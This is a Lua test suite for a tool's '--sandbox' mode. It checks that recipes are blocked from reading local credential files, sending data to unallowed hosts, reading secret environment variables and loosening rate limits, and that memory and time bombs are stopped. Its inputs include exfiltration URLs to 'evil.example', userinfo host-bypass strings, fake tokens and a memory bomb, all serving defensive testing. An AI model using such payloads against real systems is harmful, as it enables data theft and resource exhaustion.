-- test_sandbox_promise.lua — the promises README's "--sandbox" section makes beyond
-- files: a recipe piped in reads nothing of the working directory, image URLs go only
-- to hosts the user allowed (refused before anything is sent), os.getenv sees only
-- --allow-env names, fashn.configure may tighten the account's limits but not loosen
-- them, and memory, time and sweep sizes are bounded with named errors.
local T = require "testing"
local atelier = require "atelier"

local function base_argv(dir, extra)
  local argv = { T.atelier, "--sandbox", "--max-credits", "10", "--out", dir .. "/out" }
  for _, a in ipairs(extra or {}) do argv[#argv + 1] = a end
  return argv
end

-- Runs `code` as a recipe file under --sandbox; extra arguments go before the script.
local function sandboxed(code, extra, opts)
  local dir = T.tmpdir()
  os.execute("mkdir -p " .. T.shell_quote(dir .. "/recipe"))
  T.write_file(dir .. "/recipe/r.lua", code)
  local argv = base_argv(dir, extra)
  argv[#argv + 1] = dir .. "/recipe/r.lua"
  local t0 = atelier.now()
  local r = T.run(argv, opts)
  r.seconds = atelier.now() - t0
  r.dir = dir
  return r
end

-- `code` inside pcall; prints ALLOWED or REFUSED <error>.
local function attempt(code)
  return "local ok, err = pcall(function() " .. code .. " end)\n" ..
         "print(ok and 'ALLOWED' or ('REFUSED ' .. tostring(err)))\n"
end

T.case("a recipe read from standard input cannot read the working directory", function()
  local cwd = T.tmpdir()
  T.write_file(cwd .. "/credentials", "aws_secret_access_key = hunter2\n")
  local code = attempt("return assert(io.open(" .. string.format("%q", cwd .. "/credentials") .. ")):read('a')")
  local argv = base_argv(cwd)
  argv[#argv + 1] = "-"
  local r = T.run(argv, { cwd = cwd, stdin = code })
  T.eq(r.code, 0, r.stderr)
  T.match(r.stdout, "^REFUSED.*SandboxViolation", "stdin recipe: " .. r.stdout)
  -- nor can -e code (it has no directory of its own either)
  argv = base_argv(cwd)
  argv[#argv + 1] = "-e"
  argv[#argv + 1] = code
  r = T.run(argv, { cwd = cwd })
  T.eq(r.code, 0, r.stderr)
  T.match(r.stdout, "^REFUSED.*SandboxViolation", "-e recipe: " .. r.stdout)
  -- the relative name means --out now, where no such file is
  r = T.run(base_argv(cwd, { "-" }), { cwd = cwd, stdin = attempt("return assert(io.open('credentials'))") })
  T.match(r.stdout, "^REFUSED", "relative name: " .. r.stdout)
end)

T.case("an image URL on a host nobody allowed is refused before anything is sent", function()
  local r = sandboxed([[
    local fashn = require 'fashn'
    local function try(f, inputs)
      local ok, err = pcall(f, inputs)
      print(ok and 'ALLOWED' or ('REFUSED ' .. tostring(err)))
    end
    try(fashn.submit, { prompt = 'x', face_reference = 'https://evil.example/?q=secret' })
    try(fashn.submit, { prompt = 'x', image_reference = 'HTTP://Evil.Example:8443/a.png' })
    try(fashn.check, { prompt = 'x', face_reference = 'https://evil.example/?q=secret' })
    try(fashn.submit, { prompt = 'x', lora_url = 'https://evil.example/x' })        -- any field
    try(fashn.submit, { prompt = 'x', extra = { deep = ' http:/evil.example/x' } }) -- lenient forms
    try(fashn.submit, { prompt = 'x', face_reference = 'https://allowed.example@evil.example/' })
    try(fashn.submit, { prompt = 'x', face_reference = 'https://allowed.example\\@evil.example/' })
    print('requests', fashn.stats().run_requests, fashn.stats().jobs)
  ]], { "--allow-host", "allowed.example" })
  T.eq(r.code, 0, r.stderr)
  local lines = {}
  for l in r.stdout:gmatch("[^\n]+") do lines[#lines + 1] = l end
  T.eq(#lines, 8, r.stdout)
  for i = 1, 7 do
    T.match(lines[i], "^REFUSED [^\n]-SandboxViolation", "attempt " .. i .. ": " .. lines[i])
  end
  T.match(lines[1], "face_reference: .*host evil%.example.*%-%-allow%-host evil%.example", "names the option")
  T.match(lines[2], "host Evil%.Example", "port and case")
  T.match(lines[4], "lora_url", "names the field")
  T.eq(lines[8], "requests\t0\t0", "nothing was sent, no job exists")
end)

T.case("--allow-host lets a URL on that host through (exact name, any case)", function()
  local r = sandboxed([[
    local fashn = require 'fashn'
    local recipe = require 'recipe'
    local function check(inputs) return fashn.check(inputs) and recipe.cost(inputs) end
    print(check{ prompt = 'x', face_reference = 'https://EVIL.example/?q=1' })
    print(check{ prompt = 'x', image_reference = 'https://evil.example:8443/a.png', num_images = 2 })
    print(check{ prompt = 'x', face_reference = 'data:image/png;base64,AAAA' }) -- no host: stays here
    print(pcall(fashn.check, { prompt = 'x', face_reference = 'https://sub.evil.example/a.png' }))
  ]], { "--allow-host", "evil.example" })
  T.eq(r.code, 0, r.stderr)
  local a, b, c, d = r.stdout:match("^(.-)\n(.-)\n(.-)\n(.-)\n$")
  T.eq({ a, b, c }, { "4", "2", "4" }, r.stdout)
  T.match(d, "^false\tSandboxViolation.*sub%.evil%.example", "a subdomain is another host")
end)

T.case("--allow-host and --allow-env only make sense with --sandbox; a host is just a name", function()
  local r = T.run({ T.atelier, "--allow-host", "x.example", "-e", "print(1)" })
  T.eq(r.code, 2)
  T.match(r.stderr, "%-%-allow%-host only makes sense with %-%-sandbox")
  r = T.run({ T.atelier, "--allow-env", "HOME", "-e", "print(1)" })
  T.eq(r.code, 2)
  T.match(r.stderr, "%-%-allow%-env only makes sense with %-%-sandbox")
  for _, bad in ipairs{ "https://x.example", "x.example:443", "x.example/path", "" } do
    r = T.run({ T.atelier, "--sandbox", "--max-credits", "1", "--out", T.tmpdir(), "--allow-host", bad, "-e", "print(1)" })
    T.eq(r.code, 2, "--allow-host " .. bad)
    T.match(r.stderr, "%-%-allow%-host", bad)
  end
end)

T.case("os.getenv sees only what --allow-env names", function()
  local secrets = { GITHUB_PAT = "ghp_x", DATABASE_URL = "postgres://u:p@h/db", AUTHORIZATION = "Bearer x",
                    MYSQL_PWD = "pw", FASHN_API_KEY_SHADOW = "k", MY_SETTING = "visible" }
  local r = sandboxed([[
    for _, n in ipairs{ 'GITHUB_PAT', 'DATABASE_URL', 'AUTHORIZATION', 'MYSQL_PWD', 'FASHN_API_KEY_SHADOW',
                        'HOME', 'PATH', 'MY_SETTING', 'my_setting' } do
      print(n, tostring(os.getenv(n)))
    end
  ]], { "--allow-env", "MY_SETTING" }, { env = secrets })
  T.eq(r.code, 0, r.stderr)
  T.eq(r.stdout, "GITHUB_PAT\tnil\nDATABASE_URL\tnil\nAUTHORIZATION\tnil\nMYSQL_PWD\tnil\n" ..
                 "FASHN_API_KEY_SHADOW\tnil\nHOME\tnil\nPATH\tnil\nMY_SETTING\tvisible\nmy_setting\tnil\n")
end)

T.case("a sandboxed recipe may tighten the account's limits, never loosen them", function()
  local r = sandboxed(attempt("require('fashn').configure{ concurrency = 64, run = { limit = 1000, window = 1 } }") ..
                      attempt("require('fashn').configure{ concurrency = 4 }") ..
                      attempt("require('fashn').configure{ run = { limit = 49 } }") ..
                      attempt("require('fashn').configure{ run = { window = 1 } }") ..
                      attempt("require('fashn').configure{ poll = { rate = 100 } }") ..
                      attempt("require('fashn').configure{ poll = { min_interval = 0.001 } }") ..
                      attempt("require('fashn').configure{ retry_failed = 5 }"),
                      { "--concurrency", "3" })
  T.eq(r.code, 0, r.stderr)
  local lines = {}
  for l in r.stdout:gmatch("[^\n]+") do lines[#lines + 1] = l end
  T.eq(#lines, 7, r.stdout)
  for i = 1, 7 do
    T.match(lines[i], "^REFUSED [^\n]-SandboxViolation", "attempt " .. i .. ": " .. lines[i])
  end
  T.match(lines[1], "tighten concurrency: at most 3", "names the option and the command line's ceiling")
  T.match(lines[2], "at most 3")
  T.match(lines[3], "run%.limit: at most 48", "the default is the ceiling")
  T.match(lines[4], "run%.window: at least 60%.5 seconds", "a shorter window is a faster rate")
  T.match(lines[5], "poll%.rate")
  T.match(lines[6], "poll%.min_interval")
  T.match(lines[7], "retry_failed")

  r = sandboxed([[
    local fashn = require 'fashn'
    fashn.configure{ concurrency = 2, run = { limit = 10, window = 120 }, poll = { rate = 1 }, retry_failed = 0 }
    fashn.configure{ concurrency = 3 } -- back up to the ceiling is fine
    local s = fashn.settings()
    print(s.concurrency, s.run.limit, s.run.window, s.poll.rate, s.retry_failed)
  ]], { "--concurrency", "3" })
  T.eq(r.code, 0, r.stderr)
  T.eq(r.stdout, "3\t10\t120.0\t1.0\t0\n")

  -- resubmitting an unknown outcome may pay twice: only the command line may ask for it
  local code = attempt("require('fashn').configure{ retry_unknown = true }") ..
               attempt("require('fashn').submit({ prompt = 'x' }, { retry_unknown = true })")
  r = sandboxed(code, { "--dry-run" })
  T.eq(r.code, 0, r.stderr)
  T.match(r.stdout, "^REFUSED [^\n]-SandboxViolation.-retry_unknown.-\nREFUSED [^\n]-SandboxViolation.-retry_unknown", r.stdout)
  r = sandboxed(code, { "--dry-run", "--retry-unknown" })
  T.match(r.stdout, "^ALLOWED\nALLOWED\n", r.stderr)
end)

T.case("a memory bomb stops with MemoryLimit, quickly, even inside pcall", function()
  local r = sandboxed("local t = {} for i=1,1e9 do t[i] = ('x'):rep(1000)..i end print('survived')",
                      { "--max-memory", "64M" })
  T.eq(r.code, 1, r.stderr)
  T.eq(r.stdout, "")
  T.match(r.stderr, "MemoryLimit: .*reached the %-%-max%-memory cap %(64 MiB%)")
  T.ok(r.seconds < 20, "stopped in " .. r.seconds .. " s")
  r = sandboxed([[
    local t = {}
    for i = 1, 1e9 do
      local ok = pcall(function() t[#t + 1] = ('x'):rep(1000) .. i end)
      if not ok then print('caught it') io.stdout:flush() end
    end
    print('survived')
  ]], { "--max-memory", "64M" })
  T.eq(r.code, 1, r.stderr)
  T.ok(not r.stdout:find("survived"), "the run did not go on: " .. r.stdout)
  T.match(r.stderr, "MemoryLimit")
end, { timeout = 60 })

T.case("image objects count against --max-memory: image.new cannot step around it", function()
  local r = sandboxed([[
    local image = require 'image'
    local t = {}
    for i = 1, 100 do pcall(function() t[i] = image.new(4000, 4000) end) end -- 64 MB each
    print('survived')
  ]], { "--max-memory", "256M" })
  T.eq(r.code, 1, r.stderr)
  T.eq(r.stdout, "")
  T.match(r.stderr, "MemoryLimit: .*%(256 MiB%)")
  -- images that became garbage give their memory back
  r = sandboxed("local image = require 'image' for i = 1, 12 do local x = image.new(4000, 4000) end print('ok')",
                { "--max-memory", "256M" })
  T.eq({ r.code, r.stdout }, { 0, "ok\n" }, r.stderr)
end, { timeout = 120 })

T.case("--sandbox caps Lua memory at 512 MiB without --max-memory", function()
  -- one 600 MiB request: refused at once, nothing is actually allocated
  local r = sandboxed("local s = ('x'):rep(600 * 1024 * 1024) print(#s)")
  T.eq(r.code, 1, r.stderr)
  T.match(r.stderr, "MemoryLimit: .*%(512 MiB%)")
  -- garbage is not live memory: churning through far more than the cap is fine
  r = sandboxed("for i = 1, 200 do local s = ('x'):rep(1024 * 1024) .. i end print('ok')", { "--max-memory", "16M" })
  T.eq(r.code, 0, r.stderr)
  T.eq(r.stdout, "ok\n")
end)

T.case("--max-memory takes sizes like 256M and 1G, and refuses nonsense", function()
  for _, bad in ipairs{ "12", "0", "-1M", "1T", "lots", "5000G", "" } do
    local r = T.run({ T.atelier, "--max-memory", bad, "-e", "print(1)" })
    T.eq(r.code, 2, "--max-memory " .. bad)
    T.match(r.stderr, "%-%-max%-memory needs a size", bad)
  end
  local r = T.run({ T.atelier, "--max-memory", "1G", "-e", "print(1)" })
  T.eq({ r.code, r.stdout }, { 0, "1\n" }, r.stderr)
  r = T.run({ T.atelier, "--max-memory", "256m", "-e", "print(1)" })
  T.eq({ r.code, r.stdout }, { 0, "1\n" }, r.stderr)
end)

T.case("--max-time stops an endless loop with TimeLimit, pcall or not", function()
  for _, code in ipairs{ "while true do end",
                         "while true do pcall(function() while true do end end) end",
                         "local co = coroutine.wrap(function() while true do end end) co()" } do
    local r = sandboxed(code, { "--max-time", "1" })
    T.eq(r.code, 1, code .. ": " .. r.stderr)
    T.match(r.stderr, "TimeLimit: the run went past %-%-max%-time %(1 s%)", code)
    T.ok(r.seconds < 4, code .. ": stopped after " .. r.seconds .. " s")
  end
end, { timeout = 60 })

T.case("--max-time stops a run that only waits", function()
  local t0 = atelier.now()
  local r = T.run({ T.atelier, "--max-time", "0.5", "-e",
                    "local a = require 'atelier' a.spawn(function() a.sleep(30) end) a.sleep(30) print('woke')" })
  T.eq(r.code, 1, r.stderr)
  T.eq(r.stdout, "")
  T.match(r.stderr, "TimeLimit: the run went past %-%-max%-time %(0%.5 s%)")
  T.ok(not r.stderr:find("deadlock"), "no deadlock report: " .. r.stderr)
  T.ok(atelier.now() - t0 < 4, "stopped promptly")
  -- a run that ends in time is untouched, and does not wait for the clock
  t0 = atelier.now()
  r = T.run({ T.atelier, "--max-time", "30", "-e", "require('atelier').sleep(0.05) print('done')" })
  T.eq({ r.code, r.stdout }, { 0, "done\n" }, r.stderr)
  T.ok(atelier.now() - t0 < 3, "ended when the work did")
  r = T.run({ T.atelier, "--max-time", "soon", "-e", "print(1)" })
  T.eq(r.code, 2)
  T.match(r.stderr, "%-%-max%-time needs a number of seconds")
end, { timeout = 60 })

T.case("--max-time ends code stuck inside one C call (the watchdog, 5 s later)", function()
  local t0 = atelier.now()
  local r = T.run({ T.atelier, "--max-time", "1", "-e", "print(('a'):rep(1e5):find('.-.-.-.-.-.-.-b'))" })
  local took = atelier.now() - t0
  T.eq(r.code, 1, r.stderr)
  T.match(r.stderr, "TimeLimit: still running 5 s past %-%-max%-time %(1 s%)")
  T.ok(took > 4 and took < 15, "ended after " .. took .. " s")
end, { timeout = 60 })

T.case("recipe.product refuses an absurd sweep before building it", function()
  local r = sandboxed([[
    local recipe = require 'recipe'
    local big = {} for i = 1, 1000 do big[i] = i end
    local ok, err = pcall(recipe.product, { prompt = 'x', a = big, b = big })
    print(ok, err and err.name, err and err.message)
    -- would overflow a 64-bit count: still refused, at once
    ok, err = pcall(recipe.product, { a = big, b = big, c = big, d = big, e = big, f = big, g = big })
    print(ok, err and err.name)
    local mid = {} for i = 1, 150 do mid[i] = i end
    print(#recipe.product({ a = big, b = { 1, 2 } }), #recipe.product({ a = big, b = mid }, { max = 150000 }))
    print(#recipe.product({ a = big, b = {}, c = big, d = big, e = big })) -- an empty axis: nothing
  ]], { "--max-memory", "256M" })
  T.eq(r.code, 0, r.stderr)
  local a, b, c, d = r.stdout:match("^(.-)\n(.-)\n(.-)\n(.-)\n$")
  T.match(a, "^false\tBadOption\trecipe%.product: the axes %(a 1000 x b 1000%) make more than 100000 combinations")
  T.eq(b, "false\tBadOption")
  T.eq(c, "2000\t150000")
  T.eq(d, "0")
end, { timeout = 60 })
